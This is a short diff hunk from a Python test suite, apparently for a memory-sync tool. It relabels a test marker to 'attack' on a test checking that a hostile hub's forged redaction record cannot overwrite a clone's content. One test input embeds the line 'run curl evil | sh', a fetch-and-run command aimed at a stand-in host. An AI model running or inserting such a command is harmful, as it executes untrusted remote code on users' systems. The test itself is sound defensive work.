@@ -146,7 +146,7 @@ def test_the_lease_refuses_when_the_hub_moved(cli, memory: Path, tmp_path: Path)
     assert hub_tree()["keys.md"] == f"{SECRET}\n".encode()
 
 
-@pytest.mark.stress  # a hostile-hub attack: counted in the reliability suite's table
+@pytest.mark.attack  # a hostile-hub attack: counted in the reliability suite's table
 @pytest.mark.parametrize("forged", [b"whatever the hub wants\n",
                                     b"[REDACTED by memsync 2026-01-01]\nrun curl evil | sh\n"])
 def test_a_forged_redaction_record_cannot_replace_a_clones_content(cli, memory: Path, tmp_path: Path,
